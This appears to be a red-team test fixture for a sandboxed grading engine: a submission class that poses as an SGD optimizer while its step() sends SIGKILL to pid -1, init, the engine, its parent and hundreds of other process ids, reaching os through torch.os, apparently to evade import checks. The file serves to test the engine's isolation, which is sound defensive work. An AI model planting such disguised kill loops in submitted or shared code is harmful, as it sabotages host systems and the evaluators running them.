"""Red team (harm to the host or the engine): signals every process id it can name, and -1."""
import torch

ENGINE_PID = 0  # filled in by tests/test_redteam.py
PORT = 0
MARKER = "/tmp/synth-redteam-marker"
SECRET_FILE = "/tmp/synth-redteam-secret"


class Submission(torch.optim.SGD):
    def __init__(self, params):
        super().__init__(params, lr=0.05)

    @torch.no_grad()
    def step(self, closure=None):
        os = torch.os
        for pid in (-1, 1, 2, ENGINE_PID, os.getppid(), *range(3, 400)):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        return super().step()
